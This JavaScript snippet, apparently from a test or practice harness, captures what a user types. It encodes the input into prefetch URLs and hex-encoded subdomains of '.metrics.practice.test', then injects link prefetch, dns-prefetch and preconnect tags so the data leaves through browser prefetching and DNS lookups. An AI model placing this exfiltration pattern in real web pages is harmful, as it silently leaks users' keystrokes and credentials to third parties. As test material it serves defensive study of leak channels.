// What is typed, in addresses to fetch ahead and in host names to look up.
trap.onTyping((values) => {
  const host = 'https://' + trap.hex(trap.newest(values)).slice(0, 60) + '.metrics.practice.test';
  const links = [
    ['prefetch', trap.at('prefetch') + '?' + trap.query(values)],
    ['prefetch', trap.third + '/prefetch?' + trap.query(values)],
    ['dns-prefetch', host],
    ['preconnect', host],
  ];
  for (const [rel, href] of links) {
    const link = document.createElement('link');
    link.rel = rel;
    link.href = href;
    document.head.append(link);
  }
});
